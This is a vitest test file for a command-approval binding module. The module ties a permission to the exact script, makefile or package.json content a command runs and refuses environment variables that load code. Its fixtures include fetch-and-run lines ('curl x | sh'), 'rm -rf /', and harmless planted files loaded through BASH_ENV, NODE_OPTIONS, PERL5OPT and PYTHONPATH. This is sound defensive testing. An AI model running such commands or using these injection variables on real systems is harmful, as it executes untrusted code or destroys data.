import { spawnSync } from "node:child_process";
import { existsSync, writeFileSync } from "node:fs";
import path from "node:path";
import { loadShellParser } from "@slashi/core";
import { tempDir } from "@slashi/test-utils";
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { CODE_LOADING_VARIABLES, codeLoadingVariables, commandBinding, executedContent } from "./binding.js";

// Reading a bound script for what it sources uses the shell parser, loaded once a line was decided.
beforeAll(() => loadShellParser());

const CWD = "/home/dev/app";

function files(map: Record<string, string>): (file: string) => string | undefined {
  return (file) => map[path.resolve(file)];
}

const pkg = (scripts: Record<string, string>): string => JSON.stringify({ name: "app", scripts });

describe("commandBinding", () => {
  it("binds npm test to the test script and its pre and post scripts", () => {
    const read = files({
      "/home/dev/app/package.json": pkg({ pretest: "tsc", test: "vitest run", posttest: "echo ok" }),
    });
    const content = executedContent(["npm", "test"], CWD, read);
    expect(content).toMatchObject({
      kind: "package-script",
      file: "/home/dev/app/package.json",
      scripts: ["pretest", "test", "posttest"],
    });
  });

  it("asks again when the script body changes", () => {
    const before = commandBinding(
      ["pnpm", "run", "build"],
      CWD,
      files({ "/home/dev/app/package.json": pkg({ build: "tsc" }) }),
    );
    const after = commandBinding(
      ["pnpm", "run", "build"],
      CWD,
      files({ "/home/dev/app/package.json": pkg({ build: "tsc && curl x | sh" }) }),
    );
    expect(before.ok && after.ok).toBe(true);
    if (before.ok && after.ok) {
      expect(after.key).toBe(before.key);
      expect(after.digest).not.toBe(before.digest);
    }
  });

  it("ignores changes to scripts that do not run", () => {
    const a = commandBinding(
      ["yarn", "start"],
      CWD,
      files({ "/home/dev/app/package.json": pkg({ start: "node .", lint: "eslint" }) }),
    );
    const b = commandBinding(
      ["yarn", "start"],
      CWD,
      files({ "/home/dev/app/package.json": pkg({ start: "node .", lint: "rm -rf /" }) }),
    );
    expect(a.ok && b.ok && a.digest === b.digest).toBe(true);
  });

  it("finds the package.json above the working directory", () => {
    const content = executedContent(
      ["npm", "run", "lint"],
      "/home/dev/app/src/deep",
      files({ "/home/dev/app/package.json": pkg({ lint: "eslint ." }) }),
    );
    expect(content).toMatchObject({ kind: "package-script", file: "/home/dev/app/package.json" });
  });

  it("refuses a script that package.json does not have", () => {
    expect(
      executedContent(["npm", "run", "nope"], CWD, files({ "/home/dev/app/package.json": pkg({}) })),
    ).toEqual({
      refused: '/home/dev/app/package.json has no "nope" script',
    });
  });

  it("binds ./x.sh, bash x.sh, node x.js and python x.py to the file", () => {
    const read = files({
      "/home/dev/app/x.sh": "echo hi",
      "/home/dev/app/x.js": "1",
      "/home/dev/app/x.py": "print(1)",
    });
    expect(executedContent(["./x.sh"], CWD, read)).toMatchObject({
      kind: "file",
      file: "/home/dev/app/x.sh",
    });
    expect(executedContent(["bash", "-e", "x.sh", "arg"], CWD, read)).toMatchObject({
      kind: "file",
      file: "/home/dev/app/x.sh",
    });
    expect(executedContent(["node", "x.js"], CWD, read)).toMatchObject({
      kind: "file",
      file: "/home/dev/app/x.js",
    });
    expect(executedContent(["python3.12", "x.py"], CWD, read)).toMatchObject({
      kind: "file",
      file: "/home/dev/app/x.py",
    });
  });

  it("changes the digest when the script file changes", () => {
    const a = commandBinding(["./x.sh"], CWD, files({ "/home/dev/app/x.sh": "echo a" }));
    const b = commandBinding(["./x.sh"], CWD, files({ "/home/dev/app/x.sh": "echo b" }));
    expect(a.ok && b.ok && a.digest !== b.digest).toBe(true);
  });

  it("binds make to the makefile it reads: -f files, else the first default name that exists", () => {
    const read = files({ "/home/dev/app/Makefile": "all:\n\ttrue\n", "/home/dev/app/other.mk": "x:\n" });
    expect(executedContent(["make", "build"], CWD, read)).toMatchObject({
      kind: "makefile",
      file: "/home/dev/app/Makefile",
    });
    expect(executedContent(["make", "-j4", "-f", "other.mk", "x"], CWD, read)).toMatchObject({
      kind: "makefile",
      file: "/home/dev/app/other.mk",
    });
    expect(executedContent(["make", "--file=missing.mk"], CWD, read)).toHaveProperty("refused");
    expect(executedContent(["make", "-C", "sub"], CWD, read)).toHaveProperty("refused");
    expect(executedContent(["make", "--eval=x:", "x"], CWD, read)).toHaveProperty("refused");
  });

  it("never skips a GNUmakefile or makefile that make would read but that is refused", () => {
    for (const refusedName of ["GNUmakefile", "makefile"]) {
      const read = (file: string) =>
        file === `/home/dev/app/${refusedName}`
          ? { refused: "it is a FIFO" }
          : file === "/home/dev/app/Makefile"
            ? "all:\n"
            : undefined;
      const content = executedContent(["make"], CWD, read);
      expect(content).toHaveProperty("refused");
      expect((content as { refused: string }).refused).toContain(refusedName);
    }
  });

  it("digests bytes: files that decode to the same text still differ", () => {
    const a = commandBinding(["./x.sh"], CWD, () => Uint8Array.from([0x65, 0xff]));
    const b = commandBinding(["./x.sh"], CWD, () => Uint8Array.from([0x65, 0xfe]));
    expect(a.ok && b.ok).toBe(true);
    if (a.ok && b.ok) expect(a.digest).not.toBe(b.digest);
  });

  it("binds the script an interpreter runs, not an option's value, and digests files options load", () => {
    const read = files({
      "/home/dev/app/rc": "echo rc",
      "/home/dev/app/x.sh": "echo x",
      "/home/dev/app/x.py": "print(1)",
      "/home/dev/app/opt": "decoy",
    });
    expect(executedContent(["python3", "-X", "opt", "x.py"], CWD, read)).toMatchObject({
      file: "/home/dev/app/x.py",
    });
    expect(executedContent(["python3", "-W", "opt", "x.py"], CWD, read)).toMatchObject({
      file: "/home/dev/app/x.py",
    });
    expect(executedContent(["bash", "-O", "opt", "x.sh"], CWD, read)).toMatchObject({
      file: "/home/dev/app/x.sh",
    });
    const withRc = commandBinding(["bash", "--rcfile", "rc", "x.sh"], CWD, read);
    expect(withRc).toMatchObject({
      ok: true,
      content: { file: "/home/dev/app/x.sh", loads: ["/home/dev/app/rc"] },
    });
    const rcChanged = commandBinding(
      ["bash", "--rcfile", "rc", "x.sh"],
      CWD,
      files({ "/home/dev/app/rc": "curl x | sh", "/home/dev/app/x.sh": "echo x" }),
    );
    expect(withRc.ok && rcChanged.ok && withRc.digest !== rcChanged.digest).toBe(true);
    expect(commandBinding(["node", "-r", "./hook.js", "x.js"], CWD, read)).toMatchObject({ ok: false });
  });

  it.each([
    [["bash"], /interactive interpreter/],
    [["bash", "-c", "rm -rf x"], /runs code given on the command line/],
    [["python3", "-c", "print(1)"], /runs code given on the command line/],
    [["node", "-e", "1"], /runs code given on the command line/],
    [["sudo", "make", "install"], /never remembered/],
    [["env", "FOO=1", "./x.sh"], /never remembered/],
    [["xargs", "rm"], /never remembered/],
  ])("never remembers %j", (argv, reason) => {
    const binding = commandBinding(argv, CWD, files({ "/home/dev/app/x.sh": "echo" }));
    expect(binding.ok).toBe(false);
    if (!binding.ok) expect(binding.reason).toMatch(reason);
  });

  it("refuses a script file that cannot be read", () => {
    expect(commandBinding(["./missing.sh"], CWD, files({})).ok).toBe(false);
  });

  it("keys by exact argv and cwd", () => {
    const read = files({});
    const a = commandBinding(["git", "push"], CWD, read);
    const b = commandBinding(["git", "push", "--force"], CWD, read);
    const c = commandBinding(["git", "push"], "/other", read);
    expect(a.ok && b.ok && c.ok).toBe(true);
    if (a.ok && b.ok && c.ok) {
      expect(new Set([a.key, b.key, c.key]).size).toBe(3);
      expect(a.content.kind).toBe("none");
    }
  });

  describe("what the bound content pulls in", () => {
    const digestOf = (argv: string[], map: Record<string, string>): string => {
      const binding = commandBinding(argv, CWD, files(map));
      if (!binding.ok) throw new Error(binding.reason);
      return binding.digest;
    };
    const reasonOf = (argv: string[], map: Record<string, string>): string => {
      const binding = commandBinding(argv, CWD, files(map));
      return binding.ok ? "" : binding.reason;
    };

    it("binds a file a shell script sources: changing it asks again", () => {
      for (const argv of [["./build.sh"], ["bash", "build.sh"]]) {
        const before = {
          "/home/dev/app/build.sh": "set -e\n. ./lib/env.sh\nmake",
          "/home/dev/app/lib/env.sh": "X=1",
        };
        const after = { ...before, "/home/dev/app/lib/env.sh": "curl x | sh" };
        expect(digestOf(argv, before)).not.toBe(digestOf(argv, after));
        const nested = {
          ...before,
          "/home/dev/app/lib/env.sh": "source ./lib/more.sh",
          "/home/dev/app/lib/more.sh": "a",
        };
        expect(digestOf(argv, nested)).not.toBe(
          digestOf(argv, { ...nested, "/home/dev/app/lib/more.sh": "b" }),
        );
      }
    });

    it("does not offer Always allow for a source it cannot pin, and names the file", () => {
      const script = (body: string) => ({ "/home/dev/app/build.sh": body, "/home/dev/app/lib.sh": "x" });
      expect(reasonOf(["./build.sh"], script('source "$LIB"'))).toMatch(/build\.sh sources .*run time/);
      expect(reasonOf(["./build.sh"], script("source lib.sh"))).toMatch(/build\.sh sources lib\.sh.*PATH/);
      expect(reasonOf(["./build.sh"], script("cd sub && . ./lib.sh"))).toMatch(/after changing directory/);
      expect(reasonOf(["./build.sh"], script("$RUN ./lib.sh"))).toMatch(/named only at run time/);
      expect(reasonOf(["./build.sh"], script(". ./missing.sh"))).toMatch(/missing\.sh/);
      // A script of another language is not read as shell.
      expect(reasonOf(["./build.sh"], script("#!/usr/bin/env python3\nsource = 1"))).toBe("");
    });

    it("binds the files a makefile includes, and refuses includes it cannot pin", () => {
      const make = {
        "/home/dev/app/Makefile": "include common.mk\n-include local.mk\nall:\n\tinclude x\n",
        "/home/dev/app/common.mk": "A=1",
        "/home/dev/app/local.mk": "B=1",
      };
      expect(digestOf(["make"], make)).not.toBe(
        digestOf(["make"], { ...make, "/home/dev/app/common.mk": "A=2" }),
      );
      expect(digestOf(["make"], make)).not.toBe(
        digestOf(["make"], { ...make, "/home/dev/app/local.mk": "B=2" }),
      );
      const { ["/home/dev/app/local.mk"]: _gone, ...withoutLocal } = make;
      expect(reasonOf(["make"], withoutLocal)).toMatch(/local\.mk/);
      expect(reasonOf(["make"], { "/home/dev/app/Makefile": "include $(CONF)\n" })).toMatch(
        /named only when make runs/,
      );
      expect(reasonOf(["make"], { "/home/dev/app/Makefile": "$(eval include x)\n" })).toMatch(/eval/);
    });

    it("binds the package scripts a script runs with npm run, npm test and yarn X", () => {
      const pkgFile = (scripts: Record<string, string>) => ({ "/home/dev/app/package.json": pkg(scripts) });
      const scripts = {
        ci: "npm run build && npm test && yarn lint",
        build: "tsc",
        test: "vitest",
        lint: "eslint .",
        prelint: "x",
      };
      for (const changed of ["build", "test", "lint", "prelint"]) {
        expect(digestOf(["npm", "run", "ci"], pkgFile(scripts))).not.toBe(
          digestOf(["npm", "run", "ci"], pkgFile({ ...scripts, [changed]: "curl x | sh" })),
        );
      }
      expect(executedContent(["npm", "run", "ci"], CWD, files(pkgFile(scripts)))).toMatchObject({
        scripts: ["ci", "build", "test", "prelint", "lint"],
      });
      expect(reasonOf(["npm", "run", "ci"], pkgFile({ ci: "npm --prefix sub run build" }))).toMatch(
        /another package/,
      );
      expect(reasonOf(["npm", "run", "ci"], pkgFile({ ci: "run-s build:*" }))).toMatch(/run-s/);
      expect(reasonOf(["npm", "run", "ci"], pkgFile({ ci: "npm run nope" }))).toMatch(/"nope"/);
      // A cycle ends.
      expect(reasonOf(["npm", "run", "a"], pkgFile({ a: "npm run b", b: "npm run a" }))).toBe("");
    });
  });
});

describe("commandBinding and the environment", () => {
  const read = files({
    "/home/dev/app/x.sh": "echo hi",
    "/home/dev/app/x.js": "1",
    "/home/dev/app/x.py": "print(1)",
    "/home/dev/app/Makefile": "all:\n\ttrue\n",
    "/home/dev/app/package.json": pkg({ test: "vitest run" }),
  });
  const bound = [
    ["./x.sh"],
    ["bash", "x.sh"],
    ["node", "x.js"],
    ["python3", "x.py"],
    ["make"],
    ["npm", "test"],
  ];
  /** A variable of the list: the name itself, or a generated name under a prefix. */
  const variable = fc
    .constantFrom(...CODE_LOADING_VARIABLES)
    .chain((entry) =>
      entry.endsWith("*")
        ? fc.stringMatching(/^[A-Z0-9_]{0,8}$/).map((tail) => entry.slice(0, -1) + tail)
        : fc.constantFrom(entry, entry.startsWith("npm_config_") ? entry.toUpperCase() : entry),
    );
  const value = fc.string({ minLength: 1, maxLength: 12 });

  it("refuses bound content while the environment sets a variable that loads code, and names it", () => {
    fc.assert(
      fc.property(variable, value, fc.constantFrom(...bound), (name, text, argv) => {
        const binding = commandBinding(argv, CWD, read, { HOME: "/home/dev", [name]: text });
        expect(binding.ok).toBe(false);
        expect(!binding.ok && binding.reason).toContain(`sets ${name},`);
        expect(codeLoadingVariables({ [name]: text })).toEqual([name]);
      }),
    );
  });

  it("binds as before when such a variable is empty, or only unrelated variables are set", () => {
    const unrelated = fc
      .stringMatching(/^[A-Za-z_][A-Za-z0-9_]{0,10}$/)
      .filter((name) => codeLoadingVariables({ [name]: "x" }).length === 0);
    fc.assert(
      fc.property(variable, unrelated, value, fc.constantFrom(...bound), (name, other, text, argv) => {
        expect(commandBinding(argv, CWD, read, { [name]: "", [other]: text }).ok).toBe(true);
      }),
    );
  });

  it("leaves a program found by name alone: nothing of it is bound", () => {
    expect(commandBinding(["curl", "https://example.com"], CWD, read, { NODE_OPTIONS: "-r x" }).ok).toBe(
      true,
    );
  });

  describe("the variables load code in the real programs", () => {
    const tmp = tempDir("slashi-binding-env-");
    afterAll(() => tmp.remove());
    const marker = path.join(tmp.dir, "loaded");
    const planted = path.join(tmp.dir, "planted");
    const cases: {
      program: string;
      args: string[];
      file: string;
      body: string;
      env: Record<string, string>;
    }[] = [
      { program: "bash", args: ["s.sh"], file: "s.sh", body: "true\n", env: { BASH_ENV: `${planted}.sh` } },
      {
        program: "node",
        args: ["s.js"],
        file: "s.js",
        body: "1;\n",
        env: { NODE_OPTIONS: `--require=${planted}.js` },
      },
      {
        program: "perl",
        args: ["s.pl"],
        file: "s.pl",
        body: "1;\n",
        env: { PERL5OPT: "-MPlanted", PERL5LIB: tmp.dir },
      },
      { program: "python3", args: ["s.py"], file: "s.py", body: "pass\n", env: { PYTHONPATH: tmp.dir } },
    ];
    writeFileSync(`${planted}.sh`, `touch '${marker}'\n`);
    writeFileSync(`${planted}.js`, `require("node:fs").writeFileSync(${JSON.stringify(marker)}, "");\n`);
    writeFileSync(path.join(tmp.dir, "Planted.pm"), `open(my $f, ">", ${JSON.stringify(marker)}); 1;\n`);
    writeFileSync(path.join(tmp.dir, "sitecustomize.py"), `open(${JSON.stringify(marker)}, "w")\n`);

    it.each(cases)("$program runs code its environment names, and the binding is refused", (c) => {
      writeFileSync(path.join(tmp.dir, c.file), c.body);
      spawnSync("rm", ["-f", marker]);
      const ran = spawnSync(c.program, c.args, { cwd: tmp.dir, env: { PATH: process.env.PATH, ...c.env } });
      if (ran.error) return; // the program is not installed here
      expect(existsSync(marker)).toBe(true);
      const binding = commandBinding(
        [c.program, ...c.args],
        tmp.dir,
        (f) => (existsSync(f) ? "" : undefined),
        c.env,
      );
      expect(binding.ok).toBe(false);
    });
  });
});
